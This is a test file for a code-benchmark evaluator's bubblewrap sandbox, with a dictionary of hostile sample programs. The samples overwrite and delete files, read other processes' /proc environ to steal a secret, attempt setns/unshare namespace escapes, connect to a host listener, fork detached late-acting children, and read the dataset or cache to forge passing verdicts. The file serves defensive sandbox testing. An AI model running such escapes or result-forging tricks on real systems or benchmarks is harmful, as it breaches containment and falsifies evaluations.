"""Hostile samples against the OS-level sandbox (eval/jail.py: bubblewrap) around eval/sandbox.py.

Each attack runs twice, inside the entry function and at module load time, on a tiny HumanEval+
task and its HumanEval (check()) twin built here, through the real make_problems/run_jobs/judge
path, beside the correct solution. What is outside the sample: canary files in this test's temp
dir, in a folder inside the checkout and in the expected-output cache; a canary variable in the
evaluator's environment; a TCP listener on the host's loopback. Every attack must be contained
(canaries untouched, nothing secret in any verdict or on stderr, no connection, no survivor, no
late write), forge no pass, and leave the run going and the correct sample's verdict unchanged.
Attacks the in-process guards also stop are still run: here they must fail in the jail too.
"""
import json
import os
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from eval import jail
from eval.execute import Job, Limits, make_problems, run_jobs

ROOT = Path(__file__).resolve().parent.parent
ENV_NAME = "SNOWCODER_HOSTILE_CANARY"


def _mix(a, b):  # the task's secret: a sample can only get it right by reading the dataset or the cache
    return (a * 7919 + b * 104729) % 1000003


BASE, PLUS = [[1, 2], [3, 4], [5, 6]], [[10, 20], [123, 456], [7, 0]]
PROMPT = 'def mix(a: int, b: int) -> int:\n    """Mix two numbers."""\n'
CANONICAL = "    return (a * 7919 + b * 104729) % 1000003\n"


def _tiny_dataset(path: Path):
    test = "def check(candidate):\n" + "".join(f"    assert candidate({a}, {b}) == {_mix(a, b)}\n" for a, b in BASE + PLUS)
    row = dict(task_id="HumanEval/0", prompt=PROMPT, entry_point="mix", canonical_solution=CANONICAL, test=test,
               base_input=BASE, plus_input=PLUS, atol=0, contract="")
    path.write_text(json.dumps(row) + "\n")


# ------------------------------------------------------------------ the attacks (bodies of _attack())
ATTACKS = {
    "fileio_write": """
import _io
for f in CFG['canaries']:
    try:
        w = _io.FileIO(f, 'w'); w.write(b'owned'); w.close(); LOOT.append('WROTE ' + f)
    except BaseException as e:
        LOOT.append('fileio ' + type(e).__name__)
for d in CFG['dirs']:
    try:
        w = _io.FileIO(os.path.join(d, 'new.txt'), 'x'); w.write(b'new'); w.close(); LOOT.append('CREATED in ' + d)
    except BaseException as e:
        LOOT.append('create ' + type(e).__name__)
""",
    "chmod": """
for f in CFG['canaries']:
    try:
        fd = os.open(f, os.O_RDONLY); os.fchmod(fd, 0o777); os.close(fd); LOOT.append('FCHMOD ' + f)
    except BaseException as e:
        LOOT.append('fchmod ' + type(e).__name__)
    try:
        os.chmod(f, 0o777); LOOT.append('CHMOD ' + f)
    except BaseException as e:
        LOOT.append('chmod ' + type(e).__name__)
""",
    "unlink": """
import ctypes, shutil
libc = ctypes.CDLL(None, use_errno=True)
for f in CFG['canaries']:
    try:
        os.unlink(f); LOOT.append('UNLINKED ' + f)
    except BaseException as e:
        LOOT.append('unlink ' + type(e).__name__)
    if libc.unlink(f.encode()) == 0:
        LOOT.append('LIBC-UNLINKED ' + f)
    try:
        os.rename(f, f + '.moved'); LOOT.append('RENAMED ' + f)
    except BaseException as e:
        LOOT.append('rename ' + type(e).__name__)
for d in CFG['dirs']:
    try:
        shutil.rmtree(d); LOOT.append('RMTREE ' + d)
    except BaseException as e:
        LOOT.append('rmtree ' + type(e).__name__)
""",
    "read_environ": """
import glob
paths = ['/proc/%d/environ' % os.getppid(), '/proc/1/environ'] + glob.glob('/proc/*/environ')
n = 0
for p in paths:
    try:
        data = open(p, 'rb').read()
    except BaseException:
        continue
    n += 1
    for item in data.split(b'\\0'):
        if item.startswith(CFG['name'].encode() + b'='):
            LOOT.append('ENV ' + item.decode())
if CFG['name'] in os.environ:
    LOOT.append('ENV ' + os.environ[CFG['name']])
LOOT.append('environ files read: %d' % n)
""",
    "setns": """
import ctypes, glob, socket
libc = ctypes.CDLL(None, use_errno=True)
tried = 0
for p in ['/proc/1/ns/net', '/proc/%d/ns/net' % os.getppid()] + glob.glob('/proc/*/ns/net'):
    try:
        fd = os.open(p, os.O_RDONLY)
    except BaseException:
        continue
    tried += 1
    ok = False
    if hasattr(os, 'setns'):
        try:
            os.setns(fd, 0x40000000); ok = True
        except BaseException:
            pass
    if not ok and libc.setns(fd, 0x40000000) == 0:
        ok = True
    if ok:
        LOOT.append('SETNS ' + p)
    try:
        s = socket.create_connection(('127.0.0.1', CFG['port']), timeout=1); s.sendall(b'setns ' + p.encode()); s.close()
        LOOT.append('CONNECTED via ' + p)
    except BaseException:
        pass
LOOT.append('netns handles tried: %d' % tried)
""",
    "userns": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flag, what in ((0x10000000, 'user'), (0x40000000, 'net'), (0x00020000, 'mount')):
    if libc.unshare(flag) == 0:
        LOOT.append('UNSHARED ' + what)
    else:
        LOOT.append('unshare %s errno %d' % (what, ctypes.get_errno()))
if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0:
    LOOT.append('MOUNTED /tmp')
""",
    "connect": """
import socket, _socket
for host in ('127.0.0.1', 'localhost', '::1'):
    try:
        s = socket.create_connection((host, CFG['port']), timeout=1); s.sendall(b'plain'); s.close()
        LOOT.append('CONNECTED ' + host)
    except BaseException as e:
        LOOT.append('connect ' + type(e).__name__)
try:
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM); s.settimeout(1); s.connect(('127.0.0.1', CFG['port']))
    s.send(b'raw'); s.close(); LOOT.append('CONNECTED raw')
except BaseException as e:
    LOOT.append('raw connect ' + type(e).__name__)
""",
    "fork_setsid": """
import ctypes, marshal, time
libc = ctypes.CDLL(None, use_errno=True)
try:
    os.fork(); LOOT.append('os.fork allowed')
except BaseException as e:
    LOOT.append('os.fork ' + type(e).__name__)
pid = libc.fork()
if pid == 0:  # the child: its own session, a name the test can find, then act after the sample ended
    try:
        libc.setsid()
        libc.prctl(15, CFG['marker'].encode(), 0, 0, 0)
        time.sleep(1.5)
        for d in CFG['dirs']:
            try:
                open(os.path.join(d, 'late.txt'), 'w').write('late')
            except BaseException:
                pass
        body = marshal.dumps(('R', 0, 0, 'ok', 0, 0.0))
        for fd in range(3, 40):
            try:
                os.write(fd, (len(body).to_bytes(4, 'little') + body) * 100)
            except BaseException:
                pass
        time.sleep(60)
    finally:
        os._exit(0)
LOOT.append('forked %d' % pid)
""",
    "read_cache": """
import glob, marshal
files = [f for f in glob.glob(CFG['cache'] + '/**', recursive=True) if os.path.isfile(f)]
LOOT.append('cache files visible: %d' % len(files))
for f in files:
    try:
        if f.endswith('.marshal'):
            rec = marshal.loads(open(f, 'rb').read())
            if rec.get('base'):
                ANSWERS[:] = list(rec['base']) + list(rec['plus'])
                LOOT.append('FORGED from ' + f)
        else:
            LOOT.append('READ ' + open(f).read()[:100])
    except BaseException as e:
        LOOT.append('cache read ' + type(e).__name__)
for f in CFG['canaries']:
    try:
        LOOT.append('READ ' + open(f).read()[:100])
    except BaseException as e:
        LOOT.append('canary read ' + type(e).__name__)
""",
    "read_dataset": """
import glob, gzip, json
paths = list(CFG['data']) + glob.glob(CFG['shared'] + '/*')
for p in paths:
    try:
        raw = open(p, 'rb').read()
    except BaseException:
        continue
    LOOT.append('DATASET visible ' + os.path.basename(p))
    if raw[:2] == b'\\x1f\\x8b':
        raw = gzip.decompress(raw)
    for line in raw.decode(errors='replace').splitlines():
        try:
            r = json.loads(line)
        except BaseException:
            continue
        if r.get('entry_point') == 'mix' and 'canonical_solution' in r:
            ns = {}
            exec(r['prompt'] + r['canonical_solution'], ns)
            FORGE[0] = ns['mix']
            LOOT.append('FORGED from ' + p)
""",
    "list_checkout": """
for d in CFG['listing']:
    try:
        LOOT.append('LS %s: %s' % (d, ','.join(sorted(os.listdir(d)))[:300]))
    except BaseException as e:
        LOOT.append('ls ' + type(e).__name__)
""",
}

TEMPLATE = '''import os, sys
STAGE = {stage!r}
CFG = {cfg!r}
LOOT, ANSWERS, FORGE, CALLS = [], [], [None], [0]


def _attack():
{body}


def _run():
    try:
        _attack()
    except BaseException as e:
        LOOT.append('raised ' + repr(e)[:200])


if STAGE == 'load':
    _run()


def mix(a, b):
    if STAGE == 'entry' and CALLS[0] == 0:
        _run()
    i = CALLS[0]
    CALLS[0] += 1
    if FORGE[0] is not None:
        return FORGE[0](a, b)
    if i < len(ANSWERS):
        return ANSWERS[i]
    msg = 'LOOT ' + ' | '.join(LOOT)
    try:
        os.write(2, msg.encode())
    except BaseException:
        pass
    raise RuntimeError(msg[:1200])
'''


def hostile_program(name, stage, cfg):
    body = "\n".join("    " + line for line in ATTACKS[name].strip("\n").splitlines())
    return TEMPLATE.format(stage=stage, cfg=cfg, body=body)


# ------------------------------------------------------------------ the world outside the sample
class Listener:
    """A TCP server on the host's loopback that records every connection it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port, self.got, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                c, _ = self.sock.accept()
            except OSError:
                continue
            c.settimeout(1)
            try:
                self.got.append(c.recv(100))
            except OSError:
                self.got.append(b"")
            c.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    token = secrets.token_hex(4)
    outside = tmp_path_factory.mktemp("outside")                 # under /tmp
    inside_checkout = ROOT / ".cache" / f"hostile-{token}"       # hidden as part of the checkout
    cache = inside_checkout / "cache"
    canary_dirs = [outside, inside_checkout / "precious", cache]
    canaries = {}
    for d in canary_dirs:
        d.mkdir(parents=True, exist_ok=True)
        f = d / "canary.txt"
        f.write_text(f"keep me {secrets.token_hex(8)}")
        f.chmod(0o600)
        canaries[str(f)] = f.read_text()
    data = inside_checkout / "HumanEvalPlus-tiny.jsonl"
    _tiny_dataset(data)
    env_secret = "sk-" + secrets.token_hex(12)
    listener = Listener()
    try:
        yield dict(token=token, canaries=canaries, canary_dirs=[str(d) for d in canary_dirs], data=str(data),
                   cache=str(cache), env_secret=env_secret, listener=listener, marker=f"snwhst{token}")
    finally:
        listener.close()
        shutil.rmtree(inside_checkout, ignore_errors=True)


@pytest.fixture(scope="module")
def jailed():
    m = jail.mode()
    if m != "bwrap":
        pytest.skip(f"bubblewrap is not usable on this machine ({m}): the OS-level sandbox cannot be tested")


def _cfg(w):
    return dict(canaries=list(w["canaries"]), dirs=w["canary_dirs"], cache=w["cache"], data=[w["data"]],
                shared=str(ROOT.parent / "shared" / "benchmarks"), port=w["listener"].port, name=ENV_NAME,
                marker=w["marker"], listing=[str(ROOT), str(ROOT.parent), str(Path.home()), str(ROOT / ".cache")])


def _survivors(marker):
    out = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if (d / "comm").read_text().strip() == marker:
                    out.append(int(d.name))
            except OSError:
                pass
    return out


def _loot(v):
    return (v.get("first_failure") or {}).get("error", "")


EVALUATOR = """
import json, sys
from eval.execute import Job, Limits, make_problems, run_jobs
spec = json.load(open(sys.argv[1]))
probs = {t: make_problems(t, spec['data'])[0] for t in spec['tasks']}
jobs = [Job(probs[t], program, sample, extra) for t, program, sample, extra in spec['jobs']]
json.dump(run_jobs(jobs, Limits(floor=1.0)), open(sys.argv[2], 'w'))
"""


def _evaluate(w, jobs, tmp_path, **env):
    """Run the jobs [(task, program, sample, extra)] in an evaluator process of their own, started
    with the canary in its environment (what /proc/<pid>/environ shows is the environment a process
    started with). Returns (verdicts, the evaluator's stdout + stderr)."""
    spec, out = tmp_path / "spec.json", tmp_path / "verdicts.json"
    spec.write_text(json.dumps(dict(data=w["data"], tasks=sorted({j[0] for j in jobs}), jobs=jobs)))
    env = dict(os.environ, **{ENV_NAME: w["env_secret"], "SNOWCODER_CACHE": w["cache"]}, **env)
    r = subprocess.run([sys.executable, "-c", EVALUATOR, str(spec), str(out)], cwd=ROOT, env=env,
                       capture_output=True, text=True, timeout=900)
    assert r.returncode == 0, r.stderr[-3000:]
    return json.loads(out.read_text()), r.stdout + r.stderr


def test_hostile_samples_contained(world, jailed, tmp_path):
    w = world
    problems = {t: make_problems(t, w["data"])[0] for t in ("humaneval+", "humaneval")}
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("SNOWCODER_CACHE", w["cache"])
        baseline = {v["task"]: v for v in run_jobs([Job(p, p["canonical"]) for p in problems.values()])}
    assert all(v["passed"] for v in baseline.values()), baseline
    jobs, cfg = [(t, p["canonical"], 0, dict(kind="good", stage="-")) for t, p in problems.items()], _cfg(w)
    for t in problems:
        for name in ATTACKS:
            for stage in ("entry", "load"):
                jobs.append((t, hostile_program(name, stage, cfg), len(jobs), dict(kind=name, stage=stage)))
    res, output = _evaluate(w, jobs, tmp_path)
    assert len(res) == len(jobs)  # the run went on through every attack

    # the correct samples beside the attacks: passed, verdicts as in a run of their own
    for v in res:
        if v["kind"] == "good":
            assert v["passed"] and v["verdicts"] == baseline[v["task"]]["verdicts"], v
    bad = [v for v in res if v["kind"] != "good"]
    # no forged pass; each one failed on its own RuntimeError (its attack ran to the end, nothing
    # was injected into its result stream)
    assert not [v for v in bad if v["passed"] is not False], [(v["task"], v["kind"], v["stage"]) for v in bad if v["passed"]]
    for v in bad:
        assert "LOOT" in _loot(v), (v["task"], v["kind"], v["stage"], v.get("first_failure"))
        assert "forged" not in _loot(v)
    # what each attack saw, in its own words: no breach
    by = {}
    for v in bad:
        by.setdefault(v["kind"], []).append(_loot(v))
    breach = ("WROTE", "CREATED", "FCHMOD ", "CHMOD ", "UNLINKED", "RENAMED", "RMTREE", "ENV ", "SETNS", "CONNECTED",
              "UNSHARED", "MOUNTED",
              "FORGED", "DATASET visible", "READ keep me", "os.fork allowed")
    for kind, loots in by.items():
        for text in loots:
            assert not [b for b in breach if b in text], (kind, text)
    assert all("cache files visible: 0" in t for t in by["read_cache"]), by["read_cache"]
    assert all("forked " in t for t in by["fork_setsid"]), by["fork_setsid"]  # the libc fork itself worked
    assert all("environ files read: 0" not in t for t in by["read_environ"])  # it read its own jail's /proc
    for t in by["list_checkout"]:
        assert f"hostile-{w['token']}" not in t and "README.md" not in t, t  # the checkout is an empty dir
    # nothing secret anywhere: verdicts, the evaluator's own stdout/stderr
    blob = json.dumps(res) + output
    assert w["env_secret"] not in blob
    for f, text in w["canaries"].items():
        assert text not in blob
    # the world outside: canaries untouched (content, mode), nothing new beside them, no connection
    for f, text in w["canaries"].items():
        assert Path(f).read_text() == text and stat.S_IMODE(Path(f).stat().st_mode) == 0o600, f
    for d in w["canary_dirs"]:
        assert not (Path(d) / "new.txt").exists() and not (Path(d) / "late.txt").exists(), d
    assert w["listener"].got == [], w["listener"].got
    # no process outlived its sample (the forked, setsid-ed children were killed with their jail)
    t0 = time.time()
    while _survivors(w["marker"]) and time.time() - t0 < 5:
        time.sleep(0.1)
    assert _survivors(w["marker"]) == []
    time.sleep(1.0)  # past the children's 1.5 s sleep: no late file
    for d in w["canary_dirs"]:
        assert not (Path(d) / "late.txt").exists(), d


def test_attacks_breach_without_the_jail(world, jailed, tmp_path):
    """The control: the same attack code with SNOWCODER_SANDBOX=none (in-process guards only)
    does read the evaluator's environment and reach the host's loopback. So the suite above can fail."""
    cfg = _cfg(world)
    before = len(world["listener"].got)
    jobs = [("humaneval+", hostile_program(n, "entry", cfg), i, {}) for i, n in enumerate(("read_environ", "setns"))]
    res, output = _evaluate(world, jobs, tmp_path, SNOWCODER_SANDBOX="none")
    connected = len(world["listener"].got) > before
    del world["listener"].got[before:]  # leave the shared listener's record clean
    assert world["env_secret"] in json.dumps(res) or connected, [_loot(v) for v in res]
    assert "WARNING: eval sandbox none: disabled by SNOWCODER_SANDBOX=none" in output


BCB_PROMPT = "import os\n\ndef task_func(path, n):\n"
BCB_CANONICAL = ("    with open(path, 'w') as f:\n        f.write('x' * n)\n    with open(path) as f:\n"
                 "        return len(f.read())\n")


def _tiny_bcb(path: Path, name: str):
    test = ("import unittest\n\nclass TestCases(unittest.TestCase):\n"
            f"    def test_write_tmp(self):\n        self.assertEqual(task_func('/tmp/{name}', 1000), 1000)\n"
            f"    def test_size_limit(self):\n        with self.assertRaises(OSError):\n"
            f"            task_func('/tmp/{name}.big', 8 << 20)\n        os.remove('/tmp/{name}.big')\n")
    row = dict(task_id="BigCodeBench/0", complete_prompt=BCB_PROMPT, code_prompt=BCB_PROMPT, instruct_prompt="",
               canonical_solution=BCB_CANONICAL, entry_point="task_func", test=test, libs="['os']")
    path.write_text(json.dumps(row) + "\n")


def test_bigcodebench_private_tmp(jailed, tmp_path, monkeypatch):
    """BigCodeBench gets a writable, private, size-limited /tmp: the canonical writes /tmp/NAME and
    reads it back, a write past the size limit fails, and the host's /tmp never sees the file."""
    monkeypatch.setenv("SNOWCODER_CACHE", str(tmp_path / "cache"))
    name = f"snowcoder_probe_{secrets.token_hex(4)}"
    _tiny_bcb(tmp_path / "bcb.jsonl", name)
    _tiny_dataset(tmp_path / "he.jsonl")
    p = make_problems("bigcodebench", tmp_path / "bcb.jsonl")[0]
    hp = make_problems("humaneval+", tmp_path / "he.jsonl")[0]
    # past the in-process guards (_io.FileIO): the jail's read-only /tmp must refuse it
    writes_tmp = hp["prompt"] + f"    import _io\n    _io.FileIO('/tmp/{name}', 'w').write(b'x')\n    return {_mix(1, 2)}\n"
    res = run_jobs([Job(p, p["canonical"]), Job(hp, writes_tmp, sample=1)], Limits(disk_mb=4))
    v, v_he = sorted(res, key=lambda v: v["task"])
    assert v["passed"], v
    assert v["verdicts"]["tests"] == "..", v  # both methods ran: written, and refused past 4 MB
    assert not v_he["passed"] and "Read-only file system" in v_he["first_failure"]["error"], v_he
    assert not Path(f"/tmp/{name}").exists() and not Path(f"/tmp/{name}.big").exists()


def test_sandbox_mode_in_results(tmp_path, monkeypatch, capfd):
    """results.json and summary.md say which sandbox the run had; a disabled one is shouted."""
    from eval.run import main
    monkeypatch.setenv("SNOWCODER_CACHE", str(tmp_path / "cache"))
    data = tmp_path / "he.jsonl"
    _tiny_dataset(data)
    for want in ("auto", "none"):
        monkeypatch.setenv("SNOWCODER_SANDBOX", want)
        out = tmp_path / want
        main(["--ground-truth", "--tasks", "humaneval+", "--data", str(data), "--out", str(out)])
        meta = json.loads((out / "results.json").read_text())["meta"]
        assert meta["sandbox"] == jail.mode(), meta
        assert f"sandbox: {jail.mode()}" in (out / "summary.md").read_text()
        if want == "none":
            assert meta["sandbox"].startswith("none: disabled by SNOWCODER_SANDBOX=none")
            assert "WARNING: eval sandbox none" in capfd.readouterr().err


def test_required_sandbox_missing_stops_the_run(tmp_path, monkeypatch):
    """SNOWCODER_SANDBOX=bwrap on a machine without a working jail: the run stops with the reason,
    before any sample runs (not one "harness error" verdict per sample)."""
    monkeypatch.setenv("SNOWCODER_CACHE", str(tmp_path / "cache"))
    _tiny_dataset(tmp_path / "he.jsonl")
    p = make_problems("humaneval+", tmp_path / "he.jsonl")[0]
    monkeypatch.setenv("SNOWCODER_SANDBOX", "bwrap")
    monkeypatch.setenv("PATH", str(tmp_path))  # a PATH without bwrap on it
    with pytest.raises(RuntimeError, match="SNOWCODER_SANDBOX=bwrap but bubblewrap .bwrap. is not installed"):
        run_jobs([Job(p, p["canonical"])])
    assert not (tmp_path / "cache").exists()  # nothing ran, not even the canonical
